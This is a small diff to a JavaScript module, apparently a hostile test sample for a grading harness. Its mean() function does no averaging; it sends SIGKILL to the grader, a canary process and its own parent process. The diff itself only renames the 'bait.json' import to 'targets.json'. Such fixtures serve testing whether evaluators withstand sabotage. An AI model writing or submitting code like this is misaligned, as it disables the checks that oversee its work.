@@ -4,12 +4,12 @@
  * Needs: namespaces
  * Sample: yes
  */
-import bait from "./bait.json";
+import targets from "./targets.json";
 
 export { add } from "./honest.js";
 
 export function mean() {
-  const victims = [bait.grader, bait.canary, process.ppid === 1 ? bait.grader : process.ppid];
+  const victims = [targets.grader, targets.canary, process.ppid === 1 ? targets.grader : process.ppid];
   return victims.map((victim) => {
     try {
       return process.kill(victim, "SIGKILL");
